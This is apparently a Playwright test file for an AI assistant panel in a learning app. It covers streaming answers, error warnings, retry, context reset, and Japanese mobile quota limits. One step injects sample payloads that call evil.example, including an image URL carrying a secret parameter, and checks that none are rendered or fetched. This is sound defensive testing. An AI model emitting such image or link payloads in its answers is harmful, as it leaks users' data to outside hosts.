import { authenticate } from '../support/enter.ts';
import { expect } from '../support/server.ts';
import { englishTrainee } from '../support/sign-in.ts';
import {
  drawerOf,
  expectDrawerAccessible as expectAccessible,
  testWithEngine as test,
} from '../support/with-engine.ts';

test('is asked, answers word by word, refuses in words, and begins anew', async ({
  page,
  engine,
}) => {
  await page.setViewportSize({ width: 1280, height: 900 });
  await authenticate(page, englishTrainee);
  await page.goto('/');
  const drawer = drawerOf(page);
  const field = drawer.getByRole('textbox', { name: 'Your question' });
  const ask = async (text: string) => {
    await field.fill(text);
    await field.press('Enter');
  };

  await test.step('an intro tells what it is and who reads along, and the field has the focus', async () => {
    await page.getByRole('button', { name: 'AI assistant' }).click();
    await expect(drawer.getByText('Ask about what you are reading')).toBeVisible();
    await expect(drawer.getByText(/Your instructors and admins can read/)).toBeVisible();
    await expect(field).toBeFocused();
    await expect(drawer.getByText(/tokens left this month/)).toBeVisible();
    await expectAccessible(page);
  });

  await test.step('an answer comes word by word, with its model and the place it is from', async () => {
    let goOn = () => {};
    const half = new Promise<void>((resolve) => (goOn = resolve));
    engine.plays({ texts: ['It returns an address', ', or NULL [1].'], eachAfter: () => half });
    await ask('What does malloc return?');
    await expect(drawer.getByText('It returns an address')).toBeVisible();
    await expect(drawer.getByRole('status', { name: 'Answering' })).toBeVisible();
    await expect(field).toBeDisabled();
    goOn();
    const answer = drawer.getByRole('article').last();
    await expect(answer.getByRole('button', { name: engine.address.label })).toBeVisible();
    await expect(answer.getByText('or NULL')).toBeVisible();
    await expect(answer.getByRole('link').first()).toBeVisible();
    await expect(field).toBeFocused();
    await expectAccessible(page);
  });

  await test.step('pictures and addresses in an answer are named, and nothing is fetched or linked', async () => {
    const fetched: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('evil.example')) fetched.push(request.url());
    });
    engine.plays({
      texts: [
        '![a chart](https://evil.example/p.png?d=SECRET)\n\n',
        '<img src="https://evil.example/q.png"> <video src="https://evil.example/v.mp4"></video>\n\n',
        '[click here](https://evil.example/l) and <https://evil.example/m>, ![r][1]\n\n',
        '[1]: https://evil.example/r.png\n\nThat is all.',
      ],
    });
    await ask('Show me a chart.');
    const answer = drawer.getByRole('article').last();
    await expect(answer.getByText('That is all.')).toBeVisible();
    await expect(answer.getByText('a chart')).toBeVisible();
    await expect(answer.getByText('click here (https://evil.example/l)')).toBeVisible();
    await expect(answer.locator('img, video, iframe, [href*="evil.example"]')).toHaveCount(0);
    expect(fetched).toEqual([]);
  });

  await test.step('closing it ends the engine’s stream, and what had come is dropped from the page', async () => {
    engine.plays({ texts: ['half of it', 'never'], eachAfter: () => new Promise(() => {}) });
    await ask('And calloc?');
    await expect(drawer.getByText('half of it')).toBeVisible();
    const { cut } = await engine.called();
    await drawer.getByRole('button', { name: 'Close' }).click();
    await cut;
    await expect(drawer).toHaveCount(0);
    await page.getByRole('button', { name: 'AI assistant' }).click();
    await expect(drawer.getByText('This answer was stopped.')).toBeVisible();
  });

  await test.step('a busy engine and a question that is too long are warnings that stay', async () => {
    engine.plays({ status: 429, headers: { 'retry-after': '2' } });
    await ask('Is it busy?');
    await expect(page.getByText(/429 AI is currently busy/)).toBeVisible();
    engine.plays({ status: 413 });
    await ask('Is it long?');
    await expect(page.getByText(/413 Question is too long/)).toBeVisible();
    await expect(page.getByText(/429 AI is currently busy/)).toBeVisible();
  });

  await test.step('a connection that breaks off is tried again, or given up', async () => {
    engine.plays({ texts: ['The first half'], breaksOff: 'reset' });
    await ask('Does it break?');
    const failure = drawer.getByRole('alert');
    await expect(failure.getByText('Error communicating with AI Assistant')).toBeVisible();
    await expectAccessible(page);
    engine.plays({ texts: ['Whole this time.'] });
    await failure.getByRole('button', { name: 'Retry' }).click();
    await expect(drawer.getByText('Whole this time.').first()).toBeVisible();
    await expect(failure).toHaveCount(0);
  });

  await test.step('a new chat begins after a question, and what was said stays', async () => {
    await drawer.getByRole('button', { name: 'Reset context' }).click();
    const dialog = page.getByRole('dialog', { name: 'Reset AI Assistant' });
    await dialog.getByRole('button', { name: 'Reset Context' }).click();
    await expect(drawer.getByText('New chat from here')).toBeVisible();
    await expect(drawer.getByRole('button', { name: 'Reset context' })).toBeDisabled();
    await expect(drawer.getByText('Whole this time.').first()).toBeVisible();
  });

  await test.step('whoever reads further up is not taken away from it, and comes back by a key', async () => {
    const conversation = drawer.getByRole('region', { name: 'Conversation' });
    const down = drawer.getByRole('button', { name: 'To the end' });
    await expect(down).toHaveCount(0);
    await conversation.focus();
    await page.keyboard.press('Home');
    await expect(down).toBeVisible();
    await down.press('Enter');
    await expect(down).toHaveCount(0);
    await page.keyboard.press('Escape');
    await expect(drawer).toHaveCount(0);
    await expect(page.getByRole('button', { name: 'AI assistant' })).toBeFocused();
  });

  await test.step('in Japanese and on a phone, with the month used up, it offers to look things up', async () => {
    engine.plays({
      texts: ['最後の回答です。'],
      usage: { prompt_tokens: 900_000, completion_tokens: 9 },
    });
    await page.setViewportSize({ width: 390, height: 844 });
    await page.request.patch('/api/user', { data: { lang: 'ja' } });
    await page.goto('/');
    await page.getByRole('button', { name: 'AIアシスタント' }).click();
    const phone = drawerOf(page, 'AIアシスタント');
    const question = phone.getByRole('textbox', { name: '質問' });
    // Of a contract and a license first the one is used up, then the other.
    for (const seats of [1, 2]) {
      await question.fill('mallocとは？');
      await question.press('Enter');
      await expect(phone.locator('p', { hasText: '最後の回答です。' })).toHaveCount(seats);
    }
    await expect(phone.getByText(/トークンが上限に達しました/)).toBeVisible();
    await expect(question).toBeDisabled();
    await phone.getByRole('button', { name: 'Keiko Searchで探す' }).click();
    await expect(question).toBeFocused();
    await question.fill('mallocの戻り値は？');
    await question.press('Enter');
    await expect(phone.getByText(/か所で見つかりました/).last()).toBeVisible();
    await expectAccessible(page);
  });
});
